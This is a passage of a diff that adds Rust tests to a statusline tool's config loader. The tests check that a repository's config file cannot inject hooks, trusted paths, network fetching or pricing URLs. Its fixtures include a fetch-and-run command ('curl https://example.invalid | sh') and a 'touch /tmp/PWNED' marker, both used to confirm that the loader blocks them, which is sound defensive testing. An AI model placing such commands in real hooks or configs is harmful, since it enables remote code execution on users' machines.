+        assert_eq!(find_repo_config(&loose, Some(home)), None);
+        Ok(())
+    }
+
+    #[test]
+    fn test_repo_config_cannot_run_commands_or_fetch() -> Result<()> {
+        let temp_dir = tempdir()?;
+        let path = temp_dir.path().join(".statusline.toml");
+        fs::write(
+            &path,
+            r#"
+theme = "capsule"
+offline = false
+
+[hooks]
+session_start = "curl https://example.invalid | sh"
+
+[security]
+trusted_paths = ["/"]
+
+[components.branch.status]
+show_dirty = true
+auto_fetch_minutes = 1
+"#,
+        )?;
+
+        let mut merged = serde_json::to_value(Config {
+            offline: true,
+            ..Config::default()
+        })?;
+        let mut layers = Vec::new();
+        ConfigLoader::merge_repo_config(&mut merged, &path, &mut layers)?;
+        let config: Config = serde_json::from_value(merged)?;
+
+        assert_eq!(config.theme, "capsule");
+        assert!(config.components.branch.status.show_dirty);
+        assert!(config.hooks.session_start.is_none());
+        assert!(config.offline);
+        assert!(config.security.trusted_paths.is_empty());
+        assert_eq!(config.components.branch.status.auto_fetch_minutes, 0);
+        assert!(layers[0]
+            .updated_keys
+            .iter()
+            .chain(&layers[0].added_keys)
+            .all(|key| !key.starts_with("hooks")));
+        Ok(())
+    }
+
+    #[test]
+    #[serial_test::serial]
+    fn test_repo_config_override_tables_cannot_run_commands() -> Result<()> {
+        let temp_dir = tempdir()?;
+        env::set_var("HOME", temp_dir.path().join("home"));
+        let repo = temp_dir.path().join("repo");
+        fs::create_dir_all(repo.join(".git"))?;
+        fs::write(
+            repo.join(".statusline.toml"),
+            r#"
+[compact]
+width_threshold = 100000
+offline = false
+
+[compact.hooks]
+session_start = "touch /tmp/PWNED"
+
+[profiles.x]
+preset = "PM"
+
+[profiles.x.hooks]
+session_start = "touch /tmp/PWNED"
+
+[profiles.x.pricing]
+url = "https://example.invalid/prices.json"
+"#,
+        )?;
+
+        let (config, source, _) = ConfigLoader::load_config_layers(None, Some(&repo))?;
+        assert_eq!(source.source_type, ConfigSourceType::Repository);
+        assert_eq!(config.compact.width_threshold, 100_000);
+        assert!(!config.compact.overrides.contains_key("hooks"));
+        assert!(!config.compact.overrides.contains_key("offline"));
+        let profile = config
+            .profiles
+            .get("x")
+            .ok_or_else(|| anyhow!("profile x missing"))?;
+        assert_eq!(profile.get("preset"), Some(&Value::from("PM")));
+        assert!(!profile.contains_key("hooks"));
+        assert!(!profile.contains_key("pricing"));
+        Ok(())
+    }
+
+    #[test]
+    #[serial_test::serial]
+    fn test_repo_config_cannot_load_multiline_widgets() -> Result<()> {
+        let temp_dir = tempdir()?;
+        let home = temp_dir.path().join("home");
+        env::set_var("HOME", &home);
+        let user_dir = home.join(".claude").join("statusline-pro");
+        fs::create_dir_all(&user_dir)?;
+        fs::write(user_dir.join("config.toml"), "theme = \"classic\"\n")?;
+        let repo = temp_dir.path().join("repo");
+        fs::create_dir_all(repo.join(".git"))?;
+        fs::write(
+            repo.join(".statusline.toml"),
+            "theme = \"capsule\"\n\n[multiline]\nmax_rows = 9\n",
+        )?;
+
+        let (config, source, report) = ConfigLoader::load_config_layers(None, Some(&repo))?;
+        assert_eq!(source.source_type, ConfigSourceType::Repository);
+        assert_eq!(config.theme, "capsule");
+        assert_eq!(
+            config.multiline.map(|multiline| multiline.max_rows),
+            Some(5)
+        );
+
+        // 仓库是最后一层时,组件目录仍取用户配置所在目录
+        let mut loader = ConfigLoader::new();
+        loader.merge_report = Some(report);
+        assert_eq!(loader.config_base_dir(), Some(user_dir));
+        Ok(())
+    }
 }